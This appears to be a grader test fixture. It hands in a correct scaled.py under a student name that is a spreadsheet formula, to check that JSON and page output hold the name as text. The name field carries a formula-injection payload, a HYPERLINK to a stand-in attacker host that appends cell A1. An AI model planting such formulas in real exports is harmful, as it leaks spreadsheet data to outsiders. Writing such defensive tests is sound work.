# F93: has a name that is a formula in a spreadsheet; nothing is written as CSV yet, JSON and page hold it as text
# expect = "passed"
# reason = "passed"
# points = 10
# student = '=HYPERLINK("https:evil.example"&A1,"me")'
from pathlib import Path

RIGHT = "def scaled(x, by):\n    return x * by\n"


def make(folder: Path) -> None:
    """Hand in the right answer under that name."""
    (folder / "scaled.py").write_text(RIGHT)
